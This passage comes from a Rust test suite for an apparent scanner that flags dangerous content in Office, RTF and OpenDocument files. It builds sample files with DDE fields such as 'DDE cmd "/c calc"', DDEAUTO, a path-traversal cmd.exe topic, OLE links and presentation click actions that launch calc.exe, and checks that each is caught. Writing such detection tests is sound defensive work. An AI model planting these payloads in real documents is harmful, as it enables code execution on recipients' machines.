            assert_eq!(rules, [rule], "{table}");
        }
    }
    for honest in [
        "a | cmd | 'b'!\n",
        "x = cmd|'grep' and so on!\n",
        "ID;P\r\nO;L;D;V0;K47;G100 0.001\r\nC;X1;Y1;K\"E\"\r\nE\r\n",
        "ID;NAME;E\n1;cmd|'a'!;2\n",
    ] {
        assert!(
            refusing("a.csv", "text/csv", honest.as_bytes(), Level::Default).is_empty(),
            "{honest}"
        );
    }
}

#[test]
fn documents_of_before_and_binary_workbooks_start_nothing_by_dde() {
    let check = |name: &str, octets: &[u8], rules: &[&str]| {
        let found = refusing(name, BINARY, octets, Level::Default);
        assert_eq!(found, rules, "{name}: {octets:?}");
    };
    let word = |text: &str, is_wide: bool| {
        let text = if is_wide {
            wide(text, false, false)
        } else {
            text.as_bytes().to_vec()
        };
        build::compound(&[(
            "WordDocument",
            &[b"\xec\xa5\xc1\0".as_slice(), &text].concat(),
        )])
    };
    for is_wide in [false, true] {
        check(
            "a.doc",
            &word("a\u{13} DdeAuto c:\\a\u{14}b\u{15}", is_wide),
            &[DDE],
        );
        check(
            "a.doc",
            &word("\u{13}DDE cmd \"/c calc\"\u{15}", is_wide),
            &[DDE],
        );
        check(
            "a.doc",
            &word("\u{13}DDE \u{13}REF a\u{15}\u{15}", is_wide),
            &[DDE],
        );
        check(
            "a.doc",
            &word("DDEAUTO cmd \u{13}XE \"DDEAUTO\"\u{15}", is_wide),
            &[],
        );
        check(
            "a.doc",
            &word("\u{13} DDE Excel \"C:\\\\a.xls\"\u{15}", is_wide),
            &[],
        );
    }
    let book = |service: &str, topic: &str, is_wide: bool| {
        let text = format!("{service}\u{3}{topic}");
        let length = u16::try_from(text.len()).unwrap().to_le_bytes();
        let letters = if is_wide {
            wide(&text, false, false)
        } else {
            text.as_bytes().to_vec()
        };
        let body = [&[1, 0], &length[..], &[u8::from(is_wide)], &letters].concat();
        let size = u16::try_from(body.len()).unwrap().to_le_bytes();
        let stream = [
            b"\x09\x08\0\0\xae\x01".as_slice(),
            &size,
            &body,
            b"\x0a\0\0\0",
        ]
        .concat();
        build::compound(&[("WORKbook", &stream)])
    };
    let link = |service: &str, topic: &str| {
        let text = |text: &str| {
            let length = u32::try_from(text.len()).unwrap().to_le_bytes();
            [&length[..], &wide(text, false, false)].concat()
        };
        let body = [&[1, 0], &text(service)[..], &text(topic)].concat();
        let part = [
            &[0xe8, 2, u8::try_from(body.len()).unwrap()],
            body.as_slice(),
        ]
        .concat();
        build::ooxml(&[("xl/externalLinks/externalLink1.bin", &part)])
    };
    for (service, topic, rules) in [
        ("cmd", "/c calc", &[DDE][..]),
        ("MSEXCEL", "\\..\\..\\cmd.exe /c calc", &[DDE]),
        ("MSExcel", "Book2.xlsx", &[]),
        ("Reuters", "a", &[]),
    ] {
        check("a.xls", &book(service, topic, false), rules);
        check("a.xls", &book(service, topic, true), rules);
        check("a.xlsb", &link(service, topic), rules);
    }
    // An object that rich text links as OLE 1.0 does.
    let target = |target: &str| {
        let length = |text: &str| u32::try_from(text.len()).unwrap().to_le_bytes();
        let object = [
            &[1, 5, 0, 0, 1, 0, 0, 0],
            &length("htmlfile\0")[..],
            b"htmlfile\0",
            &length(target),
            target.as_bytes(),
            &[0; 8],
        ]
        .concat();
        object_of(&object)
    };
    check("a.rtf", &target("http://a.example/b\0"), &[OBJECT]);
    check("a.rtf", &target("C:\\a\\b.xls\0"), &[]);
}

fn object_of(octets: &[u8]) -> Vec<u8> {
    object(&hex(octets))
}

#[test]
fn a_presentation_that_starts_a_program_by_a_click_is_refused() {
    let slide = |action: &str| {
        of_part(
            "ppt/slides/slide1.xml",
            format!("<p:sld><a:hlinkClick r:id='rId2' {action}/></p:sld>").as_bytes(),
        )
    };
    for action in [
        "action=\"ppaction://program\"",
        "action=\"ppaction&#58;//progr&#97;m\"",
        "action = ' PPACTION://program '",
        "x:action='' action='ppaction://program'",
    ] {
        assert_eq!(slide(action), ["office-program-link"], "{action}");
    }
    for action in [
        "action=\"ppaction://hlinkshowjump?jump=nextslide\"",
        "action=\"ppaction://hlinksldjump\"",
        "action=\"ppaction://media\"",
        "action=\"\"",
        "",
    ] {
        assert_eq!(slide(action), [""; 0], "{action}");
    }
    let open = |action: &str| {
        let content = format!(
            "<office:document-content><presentation:event-listener script:event-name=\"dom:click\" presentation:action=\"{action}\" xlink:href=\"file:///c:/windows/system32/calc.exe\"/></office:document-content>"
        );
        refused("a.odp", &build::odf(&[("content.xml", &content)]))
    };
    assert_eq!(open("execute"), ["office-program-link"]);
    assert_eq!(open("next-page"), [""; 0]);
}
